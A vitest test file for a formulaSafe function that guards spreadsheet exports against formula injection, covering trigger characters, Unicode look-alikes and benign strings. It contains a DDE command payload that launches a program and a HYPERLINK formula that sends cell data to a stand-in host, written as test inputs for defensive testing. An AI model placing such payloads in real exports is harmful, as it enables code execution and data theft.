import { expect, test } from 'vitest'
import { formulaSafe } from './formula-safe'

test.each([
  ['an equals sign', '=1+1'],
  ['a plus', '+32 2 555 01 00'],
  ['a minus', '-2+3'],
  ['an at sign', '@SUM(A1:A9)'],
  ['a tab', '\t=1+1'],
  ['a tab alone', '\tword'],
  ['a carriage return', '\r=1+1'],
  ['a line feed', '\n=1+1'],
  ['a space before it', ' =1+1'],
  ['a no-break space before it', '\u00a0=1+1'],
  ['a byte order mark before it', '\ufeff=1+1'],
  ['a zero-width space before it', '\u200b=1+1'],
  ['a null before it', '\0=1+1'],
  ['a full-width equals sign', '＝1+1'],
  ['a full-width plus', '＋1'],
  ['a full-width minus', '－1'],
  ['a full-width at sign', '＠SUM(A1)'],
  ['a small equals sign', '﹦1+1'],
  ['a true minus sign', '−1'],
  ['a call to another program', "=cmd|' /C calc'!A0"],
  ['a link that carries data away', '=HYPERLINK("http://x.example?a="&A1,"a")'],
])('what begins with %s is shown and not calculated', (_, text) => {
  expect(formulaSafe(text)).toBe(`'${text}`)
})

test.each([
  '',
  'No network',
  'a=b',
  '2 + 2',
  'MOB-1042',
  'Écran cassé',
  "'quoted",
  'mail@people.example',
  '日本',
])('"%s" stays as it is', (text) => {
  expect(formulaSafe(text)).toBe(text)
})
